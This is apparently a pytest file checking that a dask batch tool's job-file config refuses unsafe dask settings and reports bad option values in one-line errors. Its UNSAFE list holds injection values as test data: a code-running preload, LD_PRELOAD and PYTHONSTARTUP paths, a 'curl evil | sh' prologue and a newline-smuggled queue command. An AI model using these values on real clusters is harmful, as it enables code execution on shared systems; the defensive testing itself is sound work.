"""A ``--config`` job file can neither run code through dask settings nor crash with a traceback.

Its ``dask:`` mapping used to go straight into dask.config, so
``distributed.scheduler.preload: ["import ..."]`` ran Python in the scheduler;
and ``bins: [1, 2]`` or ``out: 7`` ended in tracebacks.
"""

from __future__ import annotations

import copy
import pathlib
from collections.abc import Iterator

import dask.config
import pytest
from click.testing import CliRunner

from daskbatch.cli import main

FAST = ["--cluster", "threads", "--no-progress", "--stats", "moments"]


@pytest.fixture(autouse=True)
def restore_dask_config() -> Iterator[None]:
    """Accepted settings change the process-wide dask config, as they should in a job."""
    import distributed  # noqa: F401 - its defaults join dask.config on import: snapshot them too

    saved = copy.deepcopy(dask.config.config)
    yield
    dask.config.config.clear()
    dask.config.config.update(saved)


def run(store: pathlib.Path, job: pathlib.Path, *args: str) -> object:
    return CliRunner().invoke(main, ["describe", str(store), *FAST, "--config", str(job), *args])


def as_config_file(dask_mapping: str) -> str:
    """Settings indented by two, at the top of a configuration file."""
    return "".join(line.removeprefix("  ") + "\n" for line in dask_mapping.splitlines())


def assert_one_line(result: object, *words: str) -> None:
    assert result.exit_code == 2, result.output  # type: ignore[attr-defined]
    err = result.stderr.strip()  # type: ignore[attr-defined]
    assert err.startswith("error: ") and "\n" not in err, err
    assert "Traceback" not in result.output  # type: ignore[attr-defined]
    for w in words:
        assert w in err, err


UNSAFE = [
    ("distributed:\n    scheduler:\n      preload: ['import pathlib; pathlib.Path(\"{flag}\").touch()']",
     "distributed.scheduler.preload"),
    ("distributed:\n    worker:\n      preload-argv: ['--x']", "distributed.worker.preload-argv"),
    ("distributed:\n    nanny:\n      environ:\n        LD_PRELOAD: /tmp/evil.so", "distributed.nanny.environ.LD_PRELOAD"),
    ("distributed:\n    nanny:\n      pre-spawn-environ:\n        PYTHONSTARTUP: /tmp/evil.py",
     "distributed.nanny.pre-spawn-environ.PYTHONSTARTUP"),
    ("distributed:\n    logging:\n      version: 1", "distributed.logging.version"),
    ("distributed:\n    worker:\n      plugins: [x]", "distributed.worker.plugins"),
    ("jobqueue:\n    slurm:\n      job-script-prologue: ['curl evil | sh']", "jobqueue.slurm.job-script-prologue"),
    ("jobqueue:\n    slurm:\n      python: /tmp/evil", "jobqueue.slurm.python"),
    ("jobqueue:\n    slurm:\n      queue: \"short\\ncurl evil | sh\"", "jobqueue.slurm.queue"),
]


@pytest.mark.parametrize(("mapping", "key"), UNSAFE, ids=[k for _, k in UNSAFE])
def test_unsafe_dask_settings_are_refused_by_name(
    tmp_path: pathlib.Path, store: pathlib.Path, mapping: str, key: str
) -> None:
    flag = tmp_path / "ran"
    job = tmp_path / "job.yaml"
    # A safe setting beside the unsafe one: nothing of a refused file is applied.
    # (under a key of its own: a key given twice is refused before anything else)
    settings = "dask:\n  array:\n    chunk-size: 31MiB\n  " + mapping.format(flag=flag) + "\n"
    job.write_text("daskbatch: {job: {statistics: {bins: 8}}}\n" + as_config_file(settings.removeprefix("dask:\n")))
    result = run(store, job)
    # a value that is not of its kind (a queue with a line break) is no matter of trust: no flag is advised
    trust = () if key == "jobqueue.slurm.queue" else ("--allow-dask-config",)
    assert_one_line(result, key, *trust, str(job))
    assert dask.config.get("array.chunk-size", None) != "31MiB"
    assert not flag.exists()


def test_safe_settings_apply_and_the_flag_accepts_the_rest(tmp_path: pathlib.Path, store: pathlib.Path) -> None:
    job = tmp_path / "job.yaml"
    settings = ("  daskbatch:\n    split-every: 3\n  array:\n    chunk-size: 32MiB\n"
                "  distributed:\n    worker:\n      memory:\n        target: 0.31\n    comm:\n      timeouts:\n"
                "        connect: 45s\n")
    job.write_text(as_config_file(settings))
    assert run(store, job).exit_code == 0
    assert dask.config.get("distributed.worker.memory.target") == 0.31
    assert dask.config.get("distributed.comm.timeouts.connect") == "45s"
    assert dask.config.get("daskbatch.split-every") == 3

    admin = "  distributed:\n    admin:\n      tick:\n        limit: 7s\n"
    job.write_text(as_config_file(admin))
    assert_one_line(run(store, job), "distributed.admin.tick.limit")
    trusted = run(store, job, "--allow-dask-config")
    assert trusted.exit_code == 0, trusted.output
    assert dask.config.get("distributed.admin.tick.limit") == "7s"


def test_the_job_file_cannot_allow_itself(tmp_path: pathlib.Path, store: pathlib.Path) -> None:
    job = tmp_path / "job.yaml"
    job.write_text("allow-dask-config: true\ndask:\n  distributed:\n    scheduler:\n      preload: [x]\n")
    assert_one_line(run(store, job), "allow-dask-config")


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("statistics: {bins: [1, 2]}", ["'statistics.bins' expects an integer", "[1, 2]"]),
        ("statistics: {bins: true}", ["'statistics.bins' expects an integer", "True"]),
        ("statistics: {bins: 2.5}", ["'statistics.bins' expects an integer"]),
        ("statistics: {bins: 0}", ["bins", "x>=1"]),
        ("statistics: {nan_policy: never}", ["nan_policy", "omit"]),
        ("statistics: {nan_policy: 3}", ["'statistics.nan_policy' expects one of"]),
        ("statistics: {stats: {a: 1}}", ["'statistics.stats' expects a string"]),
        ("outputs: {summary: [a]}", ["'outputs.summary' expects"]),
        ("- bins", ["must hold a mapping"]),
        ("bins: [", ["not valid YAML"]),
    ],
)
def test_option_values_are_type_checked_in_one_line(
    tmp_path: pathlib.Path, store: pathlib.Path, text: str, words: list[str]
) -> None:
    job = tmp_path / "job.yaml"
    job.write_text(("daskbatch:\n  job: {" + text + "}\n") if text.endswith("}") else text + "\n")
    assert_one_line(run(store, job), *words)


@pytest.mark.parametrize("text", ["bins: 16", "dask: {array: {chunk-size: 31MiB}}", "input: {label: y}"])
def test_other_shapes_are_refused_in_one_line(tmp_path: pathlib.Path, store: pathlib.Path, text: str) -> None:
    job = tmp_path / "job.yaml"
    job.write_text(text + "\n")
    assert_one_line(run(store, job), "under 'daskbatch: job:'", str(job))
